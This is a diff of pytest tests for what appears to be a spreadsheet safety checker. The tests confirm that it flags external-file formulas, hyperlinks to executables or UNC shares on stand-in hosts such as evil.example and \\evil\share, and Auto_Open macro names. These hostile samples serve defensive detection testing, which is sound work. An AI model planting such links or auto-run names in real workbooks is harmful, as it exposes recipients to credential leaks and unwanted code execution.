@@ -284,6 +284,74 @@ def test_a_formula_that_starts_a_program_or_calls_a_server_is_named_and_nobody_i
     assert found.fix.startswith("Delete it, or type the value itself") and "open and save" not in found.fix
 
 
+def _found_after(change, tmp_path):
+    path = clean_plan().action().write_template(tmp_path / "plan.xlsx")
+    with editing(path) as book:
+        change(book)
+    return check(read_plan(path)).findings
+
+
+@pytest.mark.parametrize(
+    ("formula", "file"),
+    [
+        ("='[performance.xlsx]Sheet1'!B4", "'performance.xlsx'"),
+        (r"='\\evil\share\[x.xlsx]S'!A1", r"'\\evil\share\x.xlsx'"),
+        ("='https://evil.example/[x.xlsx]S'!A1", "'https://evil.example/x.xlsx'"),
+    ],
+)
+def test_a_formula_that_names_another_file_is_a_link_and_nobody_is_told_to_open_it(formula, file, tmp_path):
+    def link(book):
+        for row in (1, 2):
+            book.type("R01", "Actions", row, "Comment", formula)
+
+    (found,) = _found_after(link, tmp_path)
+    assert found.rule == "external-link"
+    assert f"takes its value from another file, {file}. Others on this sheet are at " in found.message
+    assert "agree to nothing that Excel asks to enable or update" in found.fix and "open and save" not in found.fix
+
+
+@pytest.mark.parametrize("target", [r"\\evil\share\x.exe", "file://evil/share/x.docx", "search-ms:query=x", "x.bat"])
+@pytest.mark.parametrize("as_formula", [False, True])
+def test_a_link_to_a_file_or_program_is_named(target, as_formula, tmp_path):
+    def link(book):
+        if as_formula:
+            book.type("R01", "Actions", 1, "Comment", f'=HYPERLINK("{target}","Evidence")')
+        else:
+            book.type("R01", "Actions", 1, "Comment", "Evidence")
+            book.cell("R01", "Actions", 1, "Comment").hyperlink = target
+
+    (found,) = _found_after(link, tmp_path)
+    assert found.rule == "external-link"
+    assert f"The link in this cell opens a file or program when it is clicked: '{target}'." in found.message
+
+
+@pytest.mark.parametrize("target", ["https://www.gov.uk/x.pdf", "mailto:jo@council.example", "evidence/minutes.docx"])
+def test_a_link_to_a_page_an_address_or_a_file_in_the_same_folder_is_fine(target, tmp_path):
+    def link(book):
+        book.type("R01", "Actions", 1, "Comment", "Evidence")
+        book.cell("R01", "Actions", 1, "Comment").hyperlink = target
+
+    assert _found_after(link, tmp_path) == ()
+
+
+@pytest.mark.parametrize("name", ["Auto_Open", "_xlnm.Auto_Open", "auto_closeX"])
+def test_a_name_that_excel_runs_unasked_is_named(name, tmp_path):
+    def define(book):
+        book.workbook.defined_names[name] = DefinedName(name, attr_text="R01!$A$1")
+
+    (found,) = _found_after(define, tmp_path)
+    assert f"The name '{name.removeprefix('_xlnm.')}' of this workbook runs a macro" in found.message
+
+
+def test_a_name_that_refers_to_a_file_on_a_server_is_a_link(tmp_path):
+    def define(book):
+        reference = r"'\\evil\share\[x.xlsx]S'!$A$1"
+        book.workbook.defined_names["Rates"] = DefinedName("Rates", attr_text=reference)
+
+    (found,) = _found_after(define, tmp_path)
+    assert r"links to another file, '\\evil\share\x.xlsx', through the name Rates." in found.message
+
+
 def test_a_link_that_starts_a_program_is_said_even_if_no_cell_uses_it(tmp_path):
     made = by(clean_plan(), link_to_another_file)
     made.hand(made.plan.write_template(tmp_path / "plan.xlsx"))
